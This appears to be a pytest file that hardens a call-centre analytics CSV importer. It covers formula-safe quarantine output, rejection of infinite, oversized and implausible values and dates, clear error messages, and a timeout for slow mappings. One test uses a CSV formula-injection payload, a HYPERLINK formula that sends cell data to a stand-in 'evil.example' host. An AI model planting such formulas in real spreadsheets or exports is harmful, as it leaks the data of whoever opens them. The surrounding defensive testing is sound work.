"""Issue #18, input and output holes found by an attack on the importer: formula-safe quarantine,
non-finite and oversized numbers, future and infinite dates, misleading messages, mapping time limit."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest

from analytics.cli import main as cli_main
from analytics.core import warehouse
from analytics.importer import import_file
from csv_files import write_csv

CALLS_HEADER = ["call_id", "arrived_at", "queue", "caller_id", "wait_s", "outcome", "agent_id", "talk_s",
                "hold_count"]
GOOD = dict(call_id="K1", arrived_at="2024-04-01 09:00:00", queue="sales", caller_id="5550001", wait_s="12",
            outcome="answered", agent_id="A101", talk_s="300", hold_count="1")




def calls_file(path: Path, *changes: dict) -> Path:
    rows = []
    for i, ch in enumerate(changes or ({},)):
        row = {**GOOD, "call_id": f"K{i + 1}", **ch}
        rows.append([row[c] for c in CALLS_HEADER])
    return write_csv(path, CALLS_HEADER, rows)


@pytest.fixture
def wh(tmp_path) -> Path:
    db = warehouse.init(tmp_path / "wh.duckdb")
    agents = write_csv(tmp_path / "agents.csv", ["agent_id", "name", "role", "hired_on"],
                       [["A101", "Ada", "agent", "2020-01-01"]])
    assert import_file(db, "agents", agents).status == "imported"
    return db


def read_quarantine(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


# ---------------------------------------------------------------- item 12: formula-safe quarantine

def test_quarantine_csv_is_formula_safe(wh, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    f = calls_file(tmp_path / "calls.csv", {"queue": evil, "wait_s": "abc"}, {"queue": "@SUM(A1:A9)", "talk_s": "-5"})
    result = import_file(wh, "calls", f)
    assert result.status == "rejected" and result.quarantine_path
    rows = read_quarantine(result.quarantine_path)
    queues = [r["queue"] for r in rows]
    assert queues == ["'" + evil, "'@SUM(A1:A9)"]
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


# ---------------------------------------------------------------- item 6: non-finite and oversized numbers

@pytest.mark.parametrize("change, column", [
    ({"talk_s": "Infinity"}, "talk_s"), ({"wait_s": "NaN"}, "wait_s"), ({"hold_count": "nan"}, "hold_count"),
    ({"hold_count": "99999999999"}, "hold_count"), ({"talk_s": "-inf"}, "talk_s"),
])
def test_non_finite_and_oversized_numbers_are_rejected_the_same_in_dry_and_real_runs(wh, tmp_path, change, column):
    f = calls_file(tmp_path / "calls.csv", {}, change)
    dry = import_file(wh, "calls", f, dry_run=True)
    real = import_file(wh, "calls", f)
    assert dry.status == "dry-run-rejected" and real.status == "rejected"
    assert dry.rows_rejected == real.rows_rejected == 1
    assert {c for _, c, _ in real.reason_counts} == {column}
    assert {r for r, _, _ in real.reason_counts} & {"not_finite", "out_of_range"}
    assert real.examples[0][0] == 3 and real.examples[0][1] == column   # the row in the file, the column
    with warehouse.read_connection(wh) as con:
        assert con.execute("SELECT count(*) FROM calls").fetchone()[0] == 0


def test_kpis_json_is_always_valid_json(wh, tmp_path, capsys):
    import json
    import duckdb
    # a warehouse holding an infinite talk time (as imports before this check could leave it)
    assert import_file(wh, "calls", calls_file(tmp_path / "calls.csv", {})).status == "imported"
    with warehouse.write_connection(wh) as con:
        con.execute("UPDATE calls SET talk_s = 'Infinity'::DOUBLE")
        warehouse.refresh_marts(con)
    rc = cli_main(["kpis", "--db", str(wh), "--from", "2024-04-01", "--to", "2024-04-01", "--format", "json"])
    out = capsys.readouterr().out
    assert rc == 0
    data = json.loads(out, parse_constant=lambda c: pytest.fail(f"{c} in JSON output"))
    assert data["aht_s"] is None


# ---------------------------------------------------------------- item 7: future and infinite dates

def test_future_and_infinite_arrivals_are_rejected(wh, tmp_path):
    f = calls_file(tmp_path / "calls.csv", {}, {"arrived_at": "2099-01-01 10:00:00"}, {"arrived_at": "infinity"})
    result = import_file(wh, "calls", f)
    assert result.status == "rejected" and result.rows_rejected == 2
    reasons = {r for r, _, _ in result.reason_counts}
    assert reasons == {"in_the_future", "not_finite"}


def test_the_future_tolerance_is_a_setting(wh, tmp_path, monkeypatch):
    from datetime import datetime, timedelta
    soon = (datetime.now() + timedelta(hours=30)).strftime("%Y-%m-%d %H:%M:%S")
    f = calls_file(tmp_path / "calls.csv", {"arrived_at": soon})
    assert import_file(wh, "calls", f, dry_run=True).status == "dry-run-rejected"   # default: 1 day
    monkeypatch.setenv("SWITCHBOARD_FUTURE_TOLERANCE_DAYS", "2")
    assert import_file(wh, "calls", f, dry_run=True).status == "dry-run"


def test_the_default_period_anchors_on_the_latest_plausible_day(wh, tmp_path):
    from analytics.core.filters import load_catalog
    assert import_file(wh, "calls", calls_file(tmp_path / "calls.csv", {})).status == "imported"
    with warehouse.write_connection(wh) as con:   # a 2099 call stored before the importer refused them
        con.execute("INSERT INTO calls (call_id, arrived_at, queue, outcome, agent_id, talk_s, wait_s) "
                    "VALUES ('F1', TIMESTAMP '2099-01-01 10:00', 'sales', 'answered', 'A101', 10, 1)")
        warehouse.refresh_marts(con)
    with warehouse.read_connection(wh) as con:
        assert load_catalog(con).last_day.isoformat() == "2024-04-01"


# ---------------------------------------------------------------- item 9: messages that say what is wrong

def _huge_line_file(path: Path, rows_before: int, size: int) -> Path:
    header = ",".join(CALLS_HEADER) + "\n"
    good = ",".join(GOOD[c] for c in CALLS_HEADER) + "\n"
    huge = good.replace("sales", "x" * size).replace("K1", "K2")
    path.write_text(header + good * rows_before + huge, encoding="utf-8")
    return path


@pytest.mark.parametrize("rows_before, line", [(1, 3), (0, 2)])
def test_a_line_over_the_size_limit_is_named_as_such(wh, tmp_path, rows_before, line):
    from analytics.importer import ImportInputError
    f = _huge_line_file(tmp_path / "calls.csv", rows_before, 2_500_000)
    with pytest.raises(ImportInputError) as err:
        import_file(wh, "calls", f, dry_run=True)
    text = str(err.value)
    assert f"on line {line}" in text and "longer than the 2 MB limit" in text
    assert "quote" not in text and "no data rows" not in text


# ---------------------------------------------------------------- item 8: a time limit on the mapping

SLOW_MAPPING = "SELECT raw.* EXCLUDE (source_row), raw.source_row FROM raw, range(2000000000) AS t(i)"


def test_a_slow_mapping_is_stopped_with_an_error_line(wh, tmp_path, capsys):
    import time
    f = calls_file(tmp_path / "calls.csv", {})
    mapping = tmp_path / "slow.sql"
    mapping.write_text(SLOW_MAPPING, encoding="utf-8")
    started = time.monotonic()
    rc = cli_main(["import", "--db", str(wh), "--table", "calls", "--file", str(f), "--mapping", str(mapping),
                   "--dry-run", "--mapping-timeout", "2"])
    err = capsys.readouterr().err
    assert rc == 2 and err.startswith("error: the mapping ran longer than the 2 s time limit"), err
    assert time.monotonic() - started < 120   # it did stop (the mapping alone would run for hours)
    with warehouse.read_connection(wh) as con:
        assert con.execute("SELECT count(*) FROM calls").fetchone()[0] == 0


# ---------------------------------------------------------------- plausibility: bounds on durations and dates

def test_implausible_durations_and_dates_are_rejected_naming_column_value_and_bound(wh, tmp_path):
    # the reviewer's file: each of these was accepted and wrecked every KPI of its day
    f = calls_file(tmp_path / "calls.csv", {}, {"wait_s": "1e308"}, {"talk_s": "99999999999999999999"},
                   {"arrived_at": "1800-01-01 09:00:00"})
    result = import_file(wh, "calls", f)
    assert result.status == "rejected" and result.rows_rejected == 3
    assert {(r, c) for r, c, _ in result.reason_counts} == {
        ("implausible", "wait_s"), ("implausible", "talk_s"), ("before_floor", "arrived_at")}
    details = {column: detail for _, column, _, detail in result.examples}
    assert details["wait_s"].startswith("wait_s '1e+308' > 86400 s (one day")
    assert details["talk_s"].startswith("talk_s '1e+20' > 86400 s")
    assert details["arrived_at"] == "arrived_at '1800-01-01 09:00:00' is before 2000-01-01 (the earliest event date accepted)"
    assert "implausible" in read_quarantine(result.quarantine_path)[0]["reasons"]
    with warehouse.read_connection(wh) as con:
        assert con.execute("SELECT count(*) FROM calls").fetchone()[0] == 0


def test_a_full_day_is_still_plausible(wh, tmp_path):
    f = calls_file(tmp_path / "calls.csv", {"wait_s": "86400", "talk_s": "86400", "arrived_at": "2000-01-01 00:00:00"})
    assert import_file(wh, "calls", f).status == "imported"


@pytest.mark.parametrize("table, header, row, column, reason", [
    ("shifts", ["agent_id", "date", "scheduled_s", "logged_in_s", "absent"],
     ["A101", "2024-04-01", "28800", "90000", "false"], "logged_in_s", "implausible"),
    ("shifts", ["agent_id", "date", "scheduled_s", "logged_in_s", "adherent_s", "absent"],
     ["A101", "2024-04-01", "28800", "28800", "1e300", "false"], "adherent_s", "implausible"),
    ("shifts", ["agent_id", "date", "scheduled_s", "logged_in_s", "absent"],
     ["A101", "1999-12-31", "28800", "28800", "false"], "date", "before_floor"),
    ("evaluations", ["evaluation_id", "agent_id", "evaluator_id", "evaluated_at", "score"],
     ["E1", "A101", "A101", "1900-01-01 00:00:00", "90"], "evaluated_at", "before_floor"),
    ("surveys", ["call_id", "csat", "answered_at"], ["K1", "5", "1800-01-01 10:00:00"], "answered_at", "before_floor"),
    ("agents", ["agent_id", "name", "role", "hired_on"], ["A102", "Bo", "agent", "1900-01-01"], "hired_on", "before_floor"),
])
def test_other_tables_have_their_bounds(wh, tmp_path, table, header, row, column, reason):
    result = import_file(wh, table, write_csv(tmp_path / f"{table}.csv", header, [row]), dry_run=True)
    assert result.status == "dry-run-rejected"
    assert [(r, c) for r, c, _ in result.reason_counts] == [(reason, column)]


def test_people_hired_before_2000_are_plausible(wh, tmp_path):
    f = write_csv(tmp_path / "agents.csv", ["agent_id", "name", "role", "hired_on"], [["A102", "Bo", "agent", "1991-06-03"]])
    assert import_file(wh, "agents", f, dry_run=True).status == "dry-run"


def test_the_sample_generators_data_passes_the_bounds(sample_db, tmp_path):
    """Every table the product's own generator writes, exported and imported back (dry run): nothing is
    implausible, nothing before a floor."""
    import duckdb
    from analytics.importer.contract import CONTRACTS

    for table in ("agents", "assignments", "calls", "evaluations", "surveys", "shifts"):
        out = tmp_path / f"{table}.csv"
        with duckdb.connect(str(sample_db), read_only=True) as con:
            have = {r[0] for r in con.execute(f"DESCRIBE {table}").fetchall()}
            cols = ", ".join(c for c in CONTRACTS[table].stored if c in have)
            con.execute(f"COPY (SELECT {cols} FROM {table}) TO '{out}' (HEADER)")   # test paths, not user input
        result = import_file(sample_db, table, out, dry_run=True)
        assert result.rows_read > 0
        assert result.status == "dry-run", (table, result.reason_counts, result.examples[:3])


# ---------------------------------------------------------------- the quarantine file imports back exactly

def test_formula_guard_is_the_exporters():
    from analytics.core.exports import _TRIGGERS
    from analytics.importer.readers import FORMULA_TRIGGERS
    assert FORMULA_TRIGGERS == _TRIGGERS


def _stored_calls(db: Path) -> dict:
    from analytics.importer.contract import CONTRACTS
    cols = ", ".join(CONTRACTS["calls"].stored)
    with warehouse.read_connection(db) as con:
        return {r[0]: r for r in con.execute(f"SELECT {cols} FROM calls ORDER BY call_id").fetchall()}


def test_fixed_quarantine_file_imports_as_the_corrected_original_would(wh, tmp_path):
    caller = "+989121388038"
    original = [{"caller_id": caller},
                {"caller_id": caller, "wait_s": "abc", "queue": "-vip"},        # queue guarded, not flagged
                {"caller_id": caller, "talk_s": "-5", "queue": "=sales"}]
    fixes = {"K2": {"wait_s": "12"}, "K3": {"talk_s": "300"}}
    result = import_file(wh, "calls", calls_file(tmp_path / "calls.csv", *original))
    assert result.status == "rejected" and result.rows_rejected == 2

    rows = read_quarantine(result.quarantine_path)
    assert [r["caller_id"] for r in rows] == ["'" + caller] * 2 and rows[1]["talk_s"] == "'-5"  # as the file had it, not -5.0
    for r in rows:   # fix only the flagged fields, leave every other cell as written
        r.update(fixes[r["call_id"]])
    fixed = tmp_path / "calls.fixed.csv"
    write_csv(fixed, list(rows[0]), [list(r.values()) for r in rows])
    assert import_file(wh, "calls", fixed).status == "imported"
    from_quarantine = _stored_calls(wh)

    corrected = [original[0], {**original[1], **fixes["K2"]}, {**original[2], **fixes["K3"]}]
    assert import_file(wh, "calls", calls_file(tmp_path / "calls.csv", *corrected)).status == "imported"
    from_original = _stored_calls(wh)
    assert from_quarantine["K2"] == from_original["K2"] and from_quarantine["K3"] == from_original["K3"]
    assert len({r[3] for r in from_original.values()}) == 1   # one caller, one hash: no split callers
    assert (from_original["K2"][2], from_original["K3"][2]) == ("-vip", "=sales")


def test_an_apostrophe_of_the_users_own_stays(wh, tmp_path):
    f = calls_file(tmp_path / "calls.csv", {"queue": "'s queue", "agent_id": "A101"})
    assert import_file(wh, "calls", f).status == "imported"
    assert _stored_calls(wh)["K1"][2] == "'s queue"
